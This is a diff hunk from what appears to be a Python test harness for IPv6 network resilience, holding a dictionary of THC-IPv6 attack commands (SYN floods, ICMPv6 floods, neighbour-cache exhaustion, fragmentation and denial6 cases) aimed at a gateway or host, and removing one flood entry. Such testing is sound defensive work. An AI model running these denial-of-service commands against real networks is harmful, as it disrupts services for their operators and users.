@@ -63,7 +63,6 @@ ATTACKS = {
     "smaller packets asked for": Attack("toobig6 -u attack0 {gateway} {host} 1200"),
     "all ICMPv6 types": Attack("randicmp6 -p attack0 {gateway}", seconds=8),
     "connections from everywhere": Attack("thcsyn6 -r attack0 " + SITE_HOST + " 80", linux=False),
-    "connections to everywhere": Attack("thcsyn6 -r -D attack0 2002:c000:202:1:: 80", linux=False),
     "neighbours that are not there": Attack("ndpexhaust26 -c -p site0 {prefix}", far=True, linux=False),
     "fragments": Attack("fragmentation6 -p attack0 {gateway}", seconds=8),
     **{f"denial {case}": Attack(f"denial6 attack0 {{gateway}} {case}") for case in range(1, 8)},
